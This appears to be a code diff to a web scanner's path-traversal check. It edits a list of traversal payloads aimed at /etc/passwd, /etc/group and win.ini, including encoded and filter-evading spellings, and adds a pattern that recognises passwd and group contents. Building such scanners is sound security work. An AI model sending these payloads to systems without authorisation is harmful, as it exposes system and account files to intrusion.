@@ -4,11 +4,12 @@ import { hasTechnology } from './prove.js';
 
 /** Lines of files that every system of the kind has: passwd(5), and the sections of Windows' win.ini. */
 const knownFiles: readonly RegExp[] = [
+  /\broot:[x*!]?:0:[\w,]{0,80}\n[\w.-]{1,32}:[x*!]?:\d{1,6}:/,
   /\broot:[^:\s]{0,40}:0:0:[^:\n]{0,80}:[^:\n]{0,80}:\/[^\s<]{1,60}/,
   /; for 16-bit app support\s{1,4}\[fonts\]/i,
 ];
 
-/** The line that shows it, without the password field. */
+/** The line that shows it (passwd(5), or the first two of group(5)), without the password field. */
 export function knownFileIn(text: string): string | undefined {
   for (const pattern of knownFiles) {
     const match = pattern.exec(text);
@@ -20,7 +21,7 @@ export function knownFileIn(text: string): string | undefined {
 const up = '../'.repeat(12);
 
 /** Paths to such files in the spellings that checks forget, the most common first. */
-export function traversals({ name, value }: InputPlace, prober: Prober): readonly string[] {
+export function traversals({ name, value }: InputPlace, prober: Prober, isPath: boolean): readonly string[] {
   const folder = value.slice(0, value.lastIndexOf('/') + 1);
   const suffix = /\.\w{1,5}$/.exec(value)?.[0] ?? '';
   const windows = [`${'..\\'.repeat(12)}Windows\\win.ini`, 'C:\\Windows\\win.ini'];
@@ -31,12 +32,14 @@ export function traversals({ name, value }: InputPlace, prober: Prober): readonl
     ...(folder === '' ? [] : [`${folder}${up}etc/passwd`]),
     `${'....//'.repeat(12)}etc/passwd`,
     `${up}etc/passwd\0${suffix || '.txt'}`,
+    `/${up}etc/passwd`,
+    '%2e%2e%2f'.repeat(12).concat('etc/passwd'),
     encodeURIComponent(`${up}etc/passwd`),
+    `${up}etc/group`,
     'file:///etc/passwd',
     `${'..%2f'.repeat(12)}etc/passwd`,
     `${'..\\/'.repeat(12)}etc/passwd`,
     `${'.././'.repeat(12)}etc/passwd`,
-    `/${up}etc/passwd`,
     `${'..%c0%af'.repeat(12)}etc/passwd`,
     `${value}/${up}etc/passwd`,
     `${up}proc/self/root/etc/passwd`,
@@ -44,7 +47,8 @@ export function traversals({ name, value }: InputPlace, prober: Prober): readonl
   const all = isWindows ? [...windows, ...posix] : [...posix, ...windows];
   const isFile =
     /file|path|page|doc|template|include|dir|folder|load/i.test(name) || suffix !== '' || folder !== '';
-  const counts: Readonly<Record<Strength, number>> = { low: 2, medium: isFile ? 5 : 3, high: 13, insane: 18 };
+  const usual = isPath ? 16 : isFile ? 5 : 2;
+  const counts: Readonly<Record<Strength, number>> = { low: 2, medium: usual, high: 15, insane: 20 };
   return all.slice(0, counts[prober.strength]);
 }
 
